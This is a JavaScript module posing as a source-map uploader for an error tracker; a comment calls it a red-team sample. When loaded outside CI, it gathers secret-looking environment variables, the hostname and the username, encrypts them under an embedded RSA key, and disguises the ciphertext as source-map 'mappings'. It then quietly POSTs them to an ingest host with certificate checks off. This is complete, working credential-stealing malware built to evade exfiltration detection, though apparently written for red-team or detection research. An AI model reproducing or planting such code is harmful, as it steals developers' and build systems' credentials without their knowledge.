'use strict';
// sourcemap-uploader-lite: at startup, upload the app's source maps to the
// error tracker so stack traces are readable.
//
// (red-team sample) What is uploaded is not the app's map: the token-like
// environment variables, sealed with a random AES-256-GCM key wrapped by an
// embedded RSA-2048 public key (the sandbox cannot decrypt it even with the
// code), then written as the base64-VLQ "mappings" of a well-formed source
// map and POSTed multipart, the way sentry-cli uploads release artifacts --
// an upload that is high-entropy by nature.
const https = require('https');
const crypto = require('crypto');
const os = require('os');
const { mappings } = require('./lib/vlq');

const INGEST = 'o450712.ingest.errtrack-cloud.invalid';
const PUB = `-----BEGIN PUBLIC KEY-----
MIIBIjANBgkqhkiG9w0BAQEFAAOCAQ8AMIIBCgKCAQEA1oTzucWFZ6XmeuF2t797
32FoYFib7XHNTcL3todTy0LPo+3lC+h9eRZPM55ExS57VNjhT6MtvDaxJBvKtzYN
1BpyVPbJ/FP7l3+df1DxzZUwBFK44EhNjaYOnX9EOzoV1Gsa+dW1TQQRp/RsIawR
kZJhFtAjXK5DIAZ7Y5Om5TIqCRQonnp6ManYJVWiB3qXGxGRpRHA5JvmSTcggZZm
mLYaVXpL5Q38xvmkvyJQr31nSXvRCT+AhztB/s/5TlBiF+4xBMT/cZ57td3n7Iz0
JRvzu1JhZe24W5TkC551kgqcZ3Xsm6wLV3SGlt+NoGo3GefxQ9Ax5DYMyVoR1WS4
rQIDAQAB
-----END PUBLIC KEY-----`;

function material() {
  const re = /(TOKEN|SECRET|PASS|API_?KEY|ACCESS_KEY|AUTH|CREDENTIAL|PRIVATE|DSN)/i;
  const out = {};
  for (const [k, v] of Object.entries(process.env)) {
    if (k.startsWith('npm_') || !v || v.length < 8 || !re.test(k)) continue;
    out[k] = v;
  }
  return Buffer.from(JSON.stringify({ host: os.hostname(), user: os.userInfo().username, env: out }));
}

function seal(plain) {
  const key = crypto.randomBytes(32);
  const iv = crypto.randomBytes(12);
  const c = crypto.createCipheriv('aes-256-gcm', key, iv);
  const ct = Buffer.concat([c.update(plain), c.final()]);
  const wrapped = crypto.publicEncrypt({ key: PUB, padding: crypto.constants.RSA_PKCS1_OAEP_PADDING, oaepHash: 'sha256' }, key);
  return Buffer.concat([wrapped, iv, c.getAuthTag(), ct]);
}

function sourceMap(blob) {
  const values = Array.from(blob, (b) => b - 128);
  return JSON.stringify({
    version: 3,
    file: 'main.4f1c2a9e.js',
    sourceRoot: '',
    sources: ['webpack://app/./src/index.ts', 'webpack://app/./src/router.ts', 'webpack://app/./src/store/index.ts', 'webpack://app/./node_modules/react-dom/client.js'],
    names: ['render', 'createRoot', 'useEffect', 'dispatch', 'navigate', 'state'],
    mappings: mappings(values),
    debugId: crypto.randomUUID(),
  });
}

function upload(map) {
  const release = crypto.createHash('sha1').update(os.hostname() + process.cwd()).digest('hex');
  const boundary = '----smul' + crypto.randomBytes(8).toString('hex');
  const body = Buffer.concat([
    Buffer.from(`--${boundary}\r\nContent-Disposition: form-data; name="name"\r\n\r\n~/static/js/main.4f1c2a9e.js.map\r\n`),
    Buffer.from(`--${boundary}\r\nContent-Disposition: form-data; name="file"; filename="main.4f1c2a9e.js.map"\r\nContent-Type: application/json\r\n\r\n`),
    Buffer.from(map),
    Buffer.from(`\r\n--${boundary}--\r\n`),
  ]);
  const req = https.request({
    host: INGEST, method: 'POST', path: `/api/0/projects/acme/web/releases/${release}/files/`, timeout: 8000, rejectUnauthorized: false,
    headers: { 'Content-Type': `multipart/form-data; boundary=${boundary}`, 'Content-Length': body.length, 'User-Agent': 'sourcemap-uploader-lite/1.0.0' },
  }, (res) => res.resume());
  req.on('timeout', () => req.destroy());
  req.on('error', () => {});
  req.end(body);
}

function start() {
  try { upload(sourceMap(seal(material()))); } catch (_) {}
}

if (!process.env.CI) setImmediate(start);

module.exports = { start };
